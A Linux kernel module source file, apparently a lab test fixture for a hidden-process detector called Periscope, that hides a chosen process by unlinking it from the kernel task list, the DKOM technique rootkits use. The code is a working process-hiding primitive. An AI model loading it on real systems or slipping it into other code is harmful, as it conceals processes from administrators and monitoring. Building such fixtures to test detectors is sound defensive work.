// SPDX-License-Identifier: GPL-2.0
/*
 * A lab-only test module for Periscope's hidden-process detection: it unlinks one process from the kernel's task
 * list (init_task.tasks), as a rootkit hiding a process by direct kernel object manipulation does. The process
 * keeps running, stays in the PID table (so /proc, kill and the scheduler still find it) and is missing only from
 * walks of the task list.
 *
 *   insmod periscope_dkom.ko pid=N
 *
 * tasklist_lock is not exported to modules: the unlink runs with preemption and interrupts off, which excludes
 * every other writer of the list on the lab's one-vCPU guests. The module cannot be unloaded; the process stays
 * unlinked until it exits (the kernel's own unlink of an exiting task is harmless on a self-linked node).
 */
#include <linux/errno.h>
#include <linux/irqflags.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/preempt.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "thread-group id of the process to unlink from the task list");

static int __init periscope_dkom_init(void)
{
	struct task_struct *task;
	unsigned long flags;

	if (num_online_cpus() != 1)
		return -EOPNOTSUPP; /* the unlink below is only exclusive on one CPU */
	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	if (!thread_group_leader(task)) {
		put_task_struct(task);
		return -EINVAL;
	}
	preempt_disable();
	local_irq_save(flags);
	list_del_init(&task->tasks);
	local_irq_restore(flags);
	preempt_enable();
	pr_info("periscope_dkom: pid %d (%s) unlinked from the task list\n", pid, task->comm);
	put_task_struct(task);
	return 0;
}
module_init(periscope_dkom_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Periscope lab test: hide a process from the task list (DKOM)");
